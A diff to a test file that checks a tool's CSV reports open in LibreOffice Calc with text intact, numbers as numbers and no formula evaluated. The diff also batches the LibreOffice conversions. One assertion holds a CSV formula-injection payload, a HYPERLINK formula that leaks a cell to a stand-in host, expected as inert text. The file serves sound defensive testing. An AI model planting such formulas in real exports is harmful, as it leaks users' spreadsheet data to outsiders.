@@ -2,10 +2,10 @@
 // are the cells we meant — text intact, numbers as numbers, nothing evaluated as a formula, even with
 // formula evaluation switched on and an article built to attack spreadsheets.
 import { spawnSync } from 'node:child_process';
-import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { copyFileSync, existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { basename, join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { HOSTILE, readCsv, readCsvRecords, runCli, tempDir } from '../helpers.js';
+import { HOSTILE, loadScaled, readCsv, readCsvRecords, runCli, spawnLimited, tempDir } from '../helpers.js';
 import { readsAsOtherNumber } from '../../src/report/csv.js';
 import { readFlatOds, type SheetCell } from './fods.js';
 
@@ -24,20 +24,58 @@ const DIALECTS = {
 
 const ISO_DATE = /^\d{4}-\d{2}-\d{2}$/;
 
-/** Converts the CSVs of a directory (every one, or those named) to Flat ODS in one LibreOffice call; returns sheets by report name. */
-function openInLibreOffice(dir: string, filter: string, names?: readonly string[]): Record<string, SheetCell[][]> {
-  const csvFiles = names?.map((name) => `${name}.csv`) ?? readdirSync(dir).filter((name) => name.endsWith('.csv'));
+/**
+ * What one LibreOffice call needs on an idle machine, with room to spare: a conversion costs about 5 s of CPU, most of it
+ * LibreOffice's start, however few its files, and took 125 s of wall time at a load of 23 on 2 cores. The limit of the call
+ * (loadScaled) and of a test that makes one.
+ */
+const LIBREOFFICE_IDLE_MS = 60_000;
+
+/** The CSVs asked to be opened with each import filter (openInLibreOffice), converted together at the first test that reads one. */
+const asked = new Map<string, Array<{ files: string[]; sheets?: Record<string, SheetCell[][]> }>>();
+
+/**
+ * The CSVs of a directory (every one, or those named), as LibreOffice opens them with `filter`: sheets by report name, when
+ * the function returned is first called. Every directory's CSVs asked with one filter are converted to Flat ODS in one
+ * LibreOffice call, at the first test that reads one (ten calls had been six filters' worth).
+ */
+function openInLibreOffice(dir: string, filter: string, names?: readonly string[]): () => Record<string, SheetCell[][]> {
+  // A run that failed wrote no CSV: its tests fail by its exit code, the other runs' CSVs are converted all the same.
+  const written = existsSync(dir) ? readdirSync(dir).filter((name) => name.endsWith('.csv')) : [];
+  const files = (names?.map((name) => `${name}.csv`) ?? written).filter((name) => written.includes(name)).map((name) => join(dir, name));
+  const request: { files: string[]; sheets?: Record<string, SheetCell[][]> } = { files };
+  if (!asked.has(filter)) asked.set(filter, []);
+  asked.get(filter)!.push(request);
+  return () => {
+    if (!request.sheets) convertAll(filter);
+    return request.sheets!;
+  };
+}
+
+/** Converts every CSV asked with `filter` in one LibreOffice call, each under a name of its own (`<request>-<report>.csv`). */
+function convertAll(filter: string): void {
+  const requests = asked.get(filter)!;
+  const staged = tempDir('lo-in-');
   const converted = tempDir('lo-out-');
   const profile = tempDir('lo-profile-');
-  const run = spawnSync(
+  const inputs = requests.flatMap((request, k) =>
+    request.files.map((file) => {
+      const input = join(staged, `${k}-${basename(file)}`);
+      copyFileSync(file, input);
+      return input;
+    }),
+  );
+  const run = spawnLimited(
     'soffice',
-    [`-env:UserInstallation=file://${profile}`, '--headless', `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', converted, ...csvFiles.map((name) => join(dir, name))],
+    [`-env:UserInstallation=file://${profile}`, '--headless', `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', converted, ...inputs],
     // The cells' text is formatted in LibreOffice's locale, which follows LC_ALL and LANG, not the import filter's:
     // under LC_ALL=tr_TR.UTF-8 the id 1.5 read back as "1,5". The tests read cells as a spreadsheet in English shows them.
-    { encoding: 'utf8', timeout: 240_000, env: { ...process.env, LC_ALL: 'C.UTF-8' } },
+    { idleMs: LIBREOFFICE_IDLE_MS, env: { ...process.env, LC_ALL: 'C.UTF-8' } },
   );
   expect(run.status, run.stderr).toBe(0);
-  return Object.fromEntries(csvFiles.map((name) => [name.replace(/\.csv$/, ''), readFlatOds(readFileSync(join(converted, name.replace(/\.csv$/, '.fods')), 'utf8'))]));
+  requests.forEach((request, k) => {
+    request.sheets = Object.fromEntries(request.files.map((file) => [basename(file, '.csv'), readFlatOds(readFileSync(join(converted, `${k}-${basename(file, '.csv')}.fods`), 'utf8'))]));
+  });
 }
 
 // The import filters docs/reference.md tells a user to convert with. `CSV:59,34,76,1` for excel-eu
@@ -50,7 +88,7 @@ const documentedFilter = (separator: number): string => {
   return filter!;
 };
 
-describe.skipIf(!hasLibreOffice)('reports opened in LibreOffice Calc', () => {
+describe.skipIf(!hasLibreOffice)('reports opened in LibreOffice Calc', { timeout: loadScaled(LIBREOFFICE_IDLE_MS) }, () => {
   for (const [dialect, { delimiter, filter, number }] of Object.entries(DIALECTS)) {
     describe(dialect, async () => {
       const dir = tempDir();
@@ -58,16 +96,17 @@ describe.skipIf(!hasLibreOffice)('reports opened in LibreOffice Calc', () => {
       writeFileSync(config, JSON.stringify({ csv: { dialect } }));
       const output = join(dir, 'out');
       const run = await runCli(['--config', config, '--input', join(HOSTILE, 'formulas.jsonl'), '--output', output, '--quiet']);
-      // vitest collects a skipped suite's body too: without LibreOffice, nothing to open.
-      const sheets = hasLibreOffice && run.code === 0 ? openInLibreOffice(output, filter) : {};
+      // Opened at the first test that reads them (vitest collects a skipped suite's body too: without LibreOffice, nothing is opened).
+      const sheets = openInLibreOffice(output, filter);
+      const documented = openInLibreOffice(output, documentedFilter(delimiter.charCodeAt(0)), ['sentences']);
       const csv = (name: string) => readCsv(join(output, `${name}.csv`), delimiter);
 
       it('the run succeeds', () => expect(run.code).toBe(0));
 
       it('every cell reads back as meant: no formula, numbers as numbers, text unchanged', () => {
-        expect(Object.keys(sheets).sort()).toEqual(['articles', 'corpus_terms', 'errors', 'keyphrases', 'removed_lines', 'sentences', 'terms']);
+        expect(Object.keys(sheets()).sort()).toEqual(['articles', 'corpus_terms', 'errors', 'keyphrases', 'removed_lines', 'sentences', 'terms']);
         let numbers = 0;
-        for (const [name, sheet] of Object.entries(sheets)) {
+        for (const [name, sheet] of Object.entries(sheets())) {
           const rows = csv(name);
           expect(sheet.length, name).toBe(rows.length);
           rows.forEach((row, r) => {
@@ -88,7 +127,7 @@ describe.skipIf(!hasLibreOffice)('reports opened in LibreOffice Calc', () => {
       });
 
       it('the hostile title, byline, source and url are shown as inert text', () => {
-        const [header, ...rows] = sheets.articles!;
+        const [header, ...rows] = sheets().articles!;
         const column = (name: string) => header!.findIndex((cell) => cell.text === name);
         const hostile = rows.find((row) => row[column('article_id')]!.text === 'hostile')!;
         expect(hostile[column('title')]).toMatchObject({ type: 'string', formula: null, text: `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")` });
@@ -100,22 +139,22 @@ describe.skipIf(!hasLibreOffice)('reports opened in LibreOffice Calc', () => {
       });
 
       it('accents, Cyrillic, emoji and a quotation with the delimiters in it arrive intact', () => {
-        const [header, ...rows] = sheets.articles!;
+        const [header, ...rows] = sheets().articles!;
         const column = (name: string) => header!.findIndex((cell) => cell.text === name);
         const plain = rows.find((row) => row[column('article_id')]!.text === 'plain')!;
         expect(plain[column('title')]!.text).toBe('Résumé of the Привет budget 👍');
         expect(plain[column('byline')]!.text).toBe('Zoë Ångström');
-        const sentences = sheets.sentences!.map((row) => row.map((cell) => cell.text).join(' ')).join('\n');
+        const sentences = sheets().sentences!.map((row) => row.map((cell) => cell.text).join(' ')).join('\n');
         expect(sentences).toContain('Москва and Київ');
         expect(sentences).toContain('naïve café owners 🎉');
         // Quoted, its quotes doubled, where the rows are joined (csv.ts directLine). Each quote stands before a delimiter:
         // LibreOffice reads a lone quote before a space as text, and one not doubled before a delimiter ends the cell.
-        const quoted = sheets.sentences!.flat().find((cell) => cell.text.startsWith('The mayor called'));
+        const quoted = sheets().sentences!.flat().find((cell) => cell.text.startsWith('The mayor called'));
         expect(quoted).toMatchObject({ type: 'string', formula: null, text: 'The mayor called the plan "fair", "final"; the teachers agreed.' });
       });
 
       it('sentences that start with a formula character are text', () => {
-        const texts = sheets.sentences!.slice(1).map((row) => row[2]!);
+        const texts = sheets().sentences!.slice(1).map((row) => row[2]!);
         const starts = texts.filter((cell) => /^'[=+\-@]/.test(cell.text));
         expect(starts.map((cell) => cell.text.slice(0, 6)).sort()).toEqual(["'+Plus", "'-Minu", "'=HYPE", "'@Ment"]);
         for (const cell of starts) expect(cell).toMatchObject({ type: 'string', formula: null });
@@ -123,13 +162,13 @@ describe.skipIf(!hasLibreOffice)('reports opened in LibreOffice Calc', () => {
 
       it('the import filter docs/reference.md gives reads every number as the number written', () => {
         expect(run.code).toBe(0);
-        const sheet = openInLibreOffice(output, documentedFilter(delimiter.charCodeAt(0)), ['sentences']).sentences!;
+        const sheet = documented().sentences!;
         const rows = csv('sentences');
         const column = rows[0]!.indexOf('sentiment');
         const scores = rows.slice(1).map((row, r) => ({ text: row[column]!, cell: sheet[r + 1]![column] })).filter(({ text }) => number.test(text));
         expect(scores.length).toBeGreaterThan(5);
         for (const { text, cell } of scores) expect([cell?.type, cell?.value], text).toEqual(['float', Number(text.replace(',', '.'))]);
-      }, 120_000);
+      });
     });
   }
 });
@@ -144,7 +183,7 @@ const IMPORTS = {
   'excel-eu': { 'the import dialog as it opens': 'CSV:59,34,76,1,,1031,false,false', 'detect special numbers': DIALECTS['excel-eu'].filter },
 } as const;
 
-describe.skipIf(!hasLibreOffice)('articles.csv: every date is a date cell, and date then time sort the articles in time order', () => {
+describe.skipIf(!hasLibreOffice)('articles.csv: every date is a date cell, and date then time sort the articles in time order', { timeout: loadScaled(LIBREOFFICE_IDLE_MS) }, () => {
   // Out of order, dated as feeds give them: a day alone, a UTC instant, a Unix time, a local time.
   const records = [
     { id: 'day-after', date: '2023-03-04' },
@@ -166,9 +205,10 @@ describe.skipIf(!hasLibreOffice)('articles.csv: every date is a date cell, and d
       const run = await runCli(['--config', join(dir, 'config.json'), '--input', join(dir, 'dated.jsonl'), '--output', output, '--quiet']);
 
       for (const [name, filter] of Object.entries(imports)) {
+        const sheets = openInLibreOffice(output, filter, ['articles']);
         it(name, () => {
           expect(run.code, run.stderr).toBe(0);
-          const [header, ...rows] = openInLibreOffice(output, filter, ['articles']).articles!;
+          const [header, ...rows] = sheets().articles!;
           const column = (label: string) => header!.findIndex((cell) => cell.text === label);
           const [id, date, time] = [column('article_id'), column('date'), column('time')];
           for (const row of rows) expect(row[date], row[id]!.text).toMatchObject({ type: 'date', dateValue: expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/) });
@@ -186,7 +226,7 @@ describe.skipIf(!hasLibreOffice)('articles.csv: every date is a date cell, and d
   }
 });
 
-describe.skipIf(!hasLibreOffice)('article ids that a spreadsheet shows as other numbers are named in errors.csv', async () => {
+describe.skipIf(!hasLibreOffice)('article ids that a spreadsheet shows as other numbers are named in errors.csv', { timeout: loadScaled(LIBREOFFICE_IDLE_MS) }, async () => {
   // Ids as file names and feeds give them: numbered with leading zeros, versions, long numeric ids.
   const ids = ['0042', '42', '1.10', '1.5', 'a-0042', '1234567890123456789', '1e5', '000/0001'];
   const dir = tempDir();
@@ -195,9 +235,10 @@ describe.skipIf(!hasLibreOffice)('article ids that a spreadsheet shows as other 
   const run = await runCli(['--input', join(dir, 'ids.jsonl'), '--output', output, '--quiet']);
 
   for (const [name, filter] of Object.entries(IMPORTS.excel)) {
+    const sheets = openInLibreOffice(output, filter, ['articles']);
     it(`the ids named are those LibreOffice changes (${name})`, () => {
       expect(run.code, run.stderr).toBe(0);
-      const [header, ...rows] = openInLibreOffice(output, filter, ['articles']).articles!;
+      const [header, ...rows] = sheets().articles!;
       const id = header!.findIndex((cell) => cell.text === 'article_id');
       const changed = rows.map((row, i) => ({ id: ids[i]!, cell: row[id]! })).filter(({ id, cell }) => cell.text !== id);
       expect(changed.map(({ id, cell }) => [id, cell.type, cell.text])).toEqual([
